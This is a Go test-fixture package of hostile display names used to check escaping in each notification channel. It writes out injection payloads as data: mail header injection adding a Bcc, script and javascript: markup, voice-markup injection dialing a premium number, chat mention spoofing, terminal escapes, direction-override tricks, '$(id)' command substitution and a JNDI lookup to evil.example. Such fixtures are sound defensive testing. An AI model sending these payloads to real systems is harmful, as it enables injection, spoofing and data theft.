// Package hostile holds names as a sender may choose them to speak to whoever shows or reads a page. The tests of every
// channel send them all.
//
// It is used by tests alone and imports nothing of the router's.
package hostile

// Container is a name that line protocol can carry, with something for each channel.
const Container = "<!channel> <@U024BE7LH> <https://evil.example|log in> *_~`@here &amp; \"'</Say><Dial>+19005550006</Dial>" +
	"<img src=x onerror=alert(1)> =?utf-8?q?x?= \u202egnp.exe{{.}} %s $(id)"

// Names returns names that try to be more than text, by what they try.
func Names() map[string]string {
	return map[string]string{
		"everything in one":     Container,
		"mail header":           "shop\r\nBcc: mallory@evil.example\r\n\r\n.\r\nMAIL FROM:<mallory@evil.example>",
		"bare line feed":        "shop\nSubject: all is well\n.\nQUIT",
		"next line":             "shop\u0085Bcc: x\u2028Bcc: y\vBcc: z",
		"encoded word":          "=?utf-8?B?PHNjcmlwdD4=?= =?us-ascii?Q?=0D=0ABcc:_x?=",
		"markup":                "</p></body></html><script>alert(1)</script><a href=\"javascript:alert(1)\">",
		"entities":              "&lt;!channel&gt; &#60;!here&#62; &amp;amp;",
		"mention":               "<!channel> <!here|here> <!subteam^S1> <@U024BE7LH> <#C1|x> @channel",
		"link":                  "<https://evil.example|https://nezuban.example> [x](https://evil.example) https://evil.example",
		"code fence":            "```\n> quote *bold* _it_ ~gone~ `x`",
		"verbs":                 "</Say><Dial>+19005550006</Dial><Say>]]><!DOCTYPE x><?xml?><!-- -->",
		"json":                  "\",\"repeat\":true,\"x\":\"\\u0000\\",
		"control":               "\x00\x01\x1b[2J\x1b]0;owned\a\x7f\u009b31m\b",
		"direction":             "\u202e\u2066\u200b\ufeffpohs\u2069",
		"not utf-8":             "\xff\xfe\xc3\x28\xed\xa0\x80",
		"template":              "{{.AuthToken}} ${jndi:ldap://evil.example} %s%n $(id) `id`",
		"japanese and an emoji": "夜勤の店 🔥 e\u0301",
	}
}
